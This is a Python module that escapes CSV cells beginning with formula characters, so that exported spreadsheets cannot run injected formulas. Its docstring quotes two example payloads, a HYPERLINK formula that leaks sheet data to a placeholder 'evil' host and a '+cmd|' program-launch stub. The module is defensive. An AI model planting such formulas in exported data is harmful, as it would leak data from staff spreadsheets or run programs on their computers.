"""Every CSV the platform writes goes through here (PL06).

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@`
(or a tab or carriage return, which some of them skip first) as a formula:
`=HYPERLINK("http://evil/?"&A1)` in a display name would leak the sheet, a
`+cmd|...` would ask to run a program on staff's computer. Text that starts
so is prefixed with a single quote, which makes it plain text (OWASP "CSV
injection"). Numbers the platform computed are written as they are.
"""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def csv_cell(value: Any) -> Any:
    """The value, made safe to open in a spreadsheet."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """`csv.writer`, with every cell through `csv_cell`."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(out, **options)
